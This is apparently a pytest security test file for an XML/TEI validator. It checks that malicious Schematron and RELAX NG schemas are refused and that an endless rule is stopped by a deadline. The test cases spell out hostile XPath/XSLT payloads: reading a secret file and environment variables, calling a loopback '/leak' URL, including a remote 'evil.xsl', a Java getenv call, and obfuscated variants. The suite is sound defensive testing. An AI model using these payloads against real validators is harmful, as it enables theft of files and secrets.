"""Schematron is data, not code: every way a schema could reach beyond the document is
refused with a located ``schema:unsafe`` error, and Saxon's own configuration would stop
it even if the static check missed it."""

from __future__ import annotations

import pytest

from tests.security.conftest import Attack, tei

SCH = (
    '<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron" '
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" queryBinding="xslt2">\n'
    '<sch:ns prefix="tei" uri="http://www.tei-c.org/ns/1.0"/>\n'
)


def schema(rule_test: str, top: str = "") -> str:
    """A schema whose one report (on line 5) shows ``rule_test``'s value."""
    return (
        SCH + f'{top}\n<sch:pattern><sch:rule context="tei:TEI">\n'
        f'<sch:report test="true()"><sch:value-of select="{rule_test}"/></sch:report>\n'
        "</sch:rule></sch:pattern></sch:schema>\n"
    )


def _cases(attack: Attack) -> dict[str, tuple[str, int]]:
    """name -> (schema text, line of the unsafe construct)."""
    secret = attack.secret_file.as_uri()
    url = attack.loopback.url
    return {
        "reads-a-file": (schema(f"unparsed-text('{secret}')"), 5),
        "reads-a-file-as-xml": (schema(f"string(doc('{secret}'))"), 5),
        "reads-an-environment-variable": (schema("environment-variable('TEIKIT_TEST_SECRET')"), 5),
        "lists-the-environment": (schema("string-join(available-environment-variables())"), 5),
        "calls-a-loopback-url": (schema(f"unparsed-text('{url}/leak')"), 5),
        "hides-the-call-in-a-function-reference": (schema(f"fn:unparsed-text#1('{secret}')"), 5),
        "writes-a-file": (
            schema(
                "'x'",
                '<xsl:function name="f:w" xmlns:f="urn:f">'
                '<xsl:result-document href="written.txt">x'
                "</xsl:result-document></xsl:function>",
            ),
            3,
        ),
        "includes-remote-xslt": (schema("'x'", f'<xsl:include href="{url}/evil.xsl"/>'), 3),
        "includes-xslt-outside-its-folder": (
            schema("'x'", '<xsl:include href="../outside.xsl"/>'),
            3,
        ),
        "copies-a-template": (schema("'x'", '<xsl:template match="/">x</xsl:template>'), 3),
        # a quote inside a comment must not open a "string" that swallows the call
        "hides-the-call-behind-a-quote-in-a-comment": (
            schema(f"(: it's :) unparsed-text('{secret}') (: a'b :)"),
            5,
        ),
        "hides-the-call-in-a-map-entry": (schema(f"map{{'k':unparsed-text('{secret}')}}('k')"), 5),
        "hides-the-call-in-a-value-template": (
            schema(
                "f:g()/@a",
                '<xsl:function name="f:g" xmlns:f="urn:f" expand-text="yes">'
                "<r a=\"it's {environment-variable('TEIKIT_TEST_SECRET')}\"/></xsl:function>",
            ).replace("<sch:schema ", '<sch:schema xmlns:f="urn:f" '),
            3,
        ),
        "calls-an-extension-function": (
            schema("Q{java:java.lang.System}getenv('TEIKIT_TEST_SECRET')"),
            5,
        ),
    }


NAMES = [
    "reads-a-file",
    "reads-a-file-as-xml",
    "reads-an-environment-variable",
    "lists-the-environment",
    "calls-a-loopback-url",
    "hides-the-call-in-a-function-reference",
    "writes-a-file",
    "includes-remote-xslt",
    "includes-xslt-outside-its-folder",
    "copies-a-template",
    "hides-the-call-behind-a-quote-in-a-comment",
    "hides-the-call-in-a-map-entry",
    "hides-the-call-in-a-value-template",
    "calls-an-extension-function",
]


@pytest.mark.parametrize("name", NAMES)
def test_an_unsafe_schema_is_refused_with_a_located_error(attack: Attack, name: str) -> None:
    text, line = _cases(attack)[name]
    attack.write("rules/evil.sch", text)
    attack.write("doc.xml", tei())
    outcome = attack.run("validate", "-q", "--schema", "rules/evil.sch", "doc.xml", timeout=60)
    attack.assert_safe(outcome)
    assert (outcome.code, ("evil.sch", line, "schema:unsafe") in outcome.rules()) == (2, True), (
        outcome.output
    )
    assert outcome.seconds < 30


def test_a_schema_named_by_a_pi_outside_the_project_is_not_read(attack: Attack) -> None:
    outside = attack.folder.parent / "elsewhere.sch"
    outside.write_text(schema("'fine'"), encoding="utf-8")
    pi = (
        f'<?xml-model href="{outside.as_uri()}" '
        'schematypens="http://purl.oclc.org/dsdl/schematron"?>\n'
    )
    attack.write("doc.xml", tei(before=pi))
    outcome = attack.run("validate", "-q", "doc.xml")
    attack.assert_safe(outcome)
    assert ("doc.xml", 2, "schema:outside-project") in outcome.rules(), outcome.output
    assert "fine" not in outcome.stdout


def test_a_rule_that_never_ends_is_stopped_by_the_deadline(attack: Attack) -> None:
    endless = schema(
        "f:loop(1)",
        '<xsl:function name="f:loop" xmlns:f="urn:f">'
        '<xsl:param name="n"/><xsl:sequence select="f:loop($n + 1)"/>'
        "</xsl:function>",
    ).replace("<sch:schema ", '<sch:schema xmlns:f="urn:f" ')
    attack.write("rules/endless.sch", endless)
    attack.write("doc.xml", tei())
    outcome = attack.run(  # the one file: no other file's work to fit in the deadline
        "validate", "-q", "--timeout", "1", "--schema", "rules/endless.sch", "doc.xml", timeout=60
    )
    attack.assert_safe(outcome)
    assert outcome.code in (1, 2) and any(
        r[2] in ("load:timeout", "sch:run-failed") for r in outcome.rules()
    ), outcome.output
    assert outcome.seconds < 20


def test_an_unsafe_schema_named_by_a_pi_is_refused(attack: Attack) -> None:
    text, line = _cases(attack)["reads-a-file"]
    attack.write("rules/evil.sch", text)
    pi = (
        '<?xml-model href="../rules/evil.sch" schematypens="http://purl.oclc.org/dsdl/schematron"?>'
    )
    attack.write("tei/doc.xml", tei(before=pi + "\n"))
    outcome = attack.run("validate", "-q", "tei/doc.xml")
    attack.assert_safe(outcome)
    assert (outcome.code, ("evil.sch", line, "schema:unsafe") in outcome.rules()) == (2, True), (
        outcome.output
    )


def test_unsafe_rules_embedded_in_a_relaxng_schema_are_refused(attack: Attack) -> None:
    attack.write(
        "rules/evil.rng",
        '<grammar xmlns="http://relaxng.org/ns/structure/1.0" '
        'xmlns:sch="http://purl.oclc.org/dsdl/schematron">\n'
        "<start><element><anyName/><ref name='any'/>\n"
        '<sch:pattern><sch:rule context="*:TEI"><sch:report test="true()">'
        f"<sch:value-of select=\"unparsed-text('{attack.secret_file.as_uri()}')\"/>"
        "</sch:report></sch:rule></sch:pattern>\n"
        "</element></start><define name='any'><zeroOrMore><choice><attribute><anyName/>"
        "</attribute><text/><element><anyName/><ref name='any'/></element></choice>"
        "</zeroOrMore></define></grammar>\n",
    )
    pi = '<?xml-model href="../rules/evil.rng" schematypens="http://relaxng.org/ns/structure/1.0"?>'
    attack.write("tei/doc.xml", tei(before=pi + "\n"))
    outcome = attack.run("validate", "-q", "--embedded-schematron", "tei/doc.xml")
    attack.assert_safe(outcome)
    assert (outcome.code, ("evil.rng", 3, "schema:unsafe") in outcome.rules()) == (2, True), (
        outcome.output
    )
